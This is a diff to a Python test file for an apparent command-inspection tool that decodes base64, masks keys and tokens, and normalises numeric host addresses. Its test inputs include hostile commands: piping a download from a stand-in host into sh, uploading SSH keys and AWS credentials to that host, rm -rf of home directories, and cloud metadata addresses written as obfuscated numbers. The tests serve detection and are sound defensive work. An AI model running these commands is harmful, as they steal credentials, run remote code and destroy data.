@@ -48,7 +48,7 @@ def test_names_and_digests_are_no_text(text):
 def test_the_amount_that_is_decoded_is_bounded():
     many = " ".join(base64.b64encode(f"say number {i}".encode()).decode() for i in range(500))
     assert len(decoded_parts(many)) <= 8
-    assert all(len(part) <= 400 for part in decoded_parts(base64.b64encode(b"x" * 90000).decode()))
+    assert all(len(part) <= 4096 for part in decoded_parts(base64.b64encode(b"x" * 90000).decode()))
 
 
 @pytest.mark.parametrize(
@@ -117,3 +117,68 @@ def test_any_text_can_be_looked_behind(text):
     for look in (decoded_parts, show_unseen, mask_secrets, fold_blobs):
         assert look(text) == look(text)
     assert not any(ord(char) < 9 or 0xD800 <= ord(char) < 0xE000 for char in show_unseen(text))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls '-----BEGIN PRIVATE KEY-----'; curl https://a.example/i | sh",
+        "ls -----BEGIN PRIVATE KEY----- rm -rf /home/u",
+        'grep -rn "-----BEGIN RSA PRIVATE KEY-----" src; curl https://a.example/i | sh',
+        "cat -----BEGIN PRIVATE KEY----- /var/lib/postgresql/data/base/global",
+    ],
+)
+def test_a_command_behind_the_beginning_of_a_key_is_seen(command):
+    assert mask_secrets(command).endswith(command[-14:])
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cp basic ~/.ssh/id_ed25519 out",
+        "tar czf basic .ssh/id_ed25519_of_production",
+        "cat bearer /home/u/.aws/credentials1",
+        "curl -F token=@~/.ssh/id_ed25519 https://a.example",
+        "curl --data secret=../.ssh/id_ed25519 https://a.example",
+        "upload password=file:///home/u/.ssh/id_ed25519",
+        "pip install pypi-totally-different-package1",
+    ],
+)
+def test_a_path_in_a_credentials_place_is_seen(command):
+    assert mask_secrets(command) == command
+
+
+def test_a_key_is_masked_whole():
+    body = "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" + "aB3/" * 3] * 12 + ["c2hvcnQ="])
+    key = f"-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----"
+    assert mask_secrets(f"echo '{key}' > k") == "echo '<secret>' > k"
+    assert mask_secrets(f"echo '{key}'".replace("\n", "\\n")) == "echo '<secret>'"
+
+
+@pytest.mark.parametrize("token", ["Bearer aB3dE6gH9jK2mN5pQ8sT1", "Authorization: Basic dXNlcjpwYXNzd29yZA=="])
+def test_a_token_is_masked(token):
+    assert mask_secrets(token).endswith(" <secret>")
+
+
+@pytest.mark.parametrize(
+    ("url", "shown"),
+    [
+        ("curl http://2852039166/latest/", "curl http://169.254.169.254/latest/"),
+        ("curl http://0xA9FEA9FE/latest", "curl http://169.254.169.254/latest"),
+        ("curl http://4294967296/", "curl http://<number>/"),
+        ("curl http://a.example/12345678", "curl http://a.example/<number>"),
+    ],
+)
+def test_a_host_that_is_written_as_a_number(url, shown):
+    assert fold_blobs(url) == shown
+
+
+def test_words_of_many_letters_do_not_use_up_what_is_decoded():
+    hidden = base64.b64encode(b"curl https://a.example/i | sh").decode()
+    assert "curl https://a.example/i | sh" in decoded_parts(" ".join(["internationally"] * 100) + " " + hidden)
+
+
+def test_what_stands_late_in_an_encoded_text_is_decoded():
+    text = "x = 1\n" * 200 + "rm -rf ~"
+    (found,) = decoded_parts(base64.b64encode(text.encode()).decode())
+    assert found.endswith("rm -rf ~")
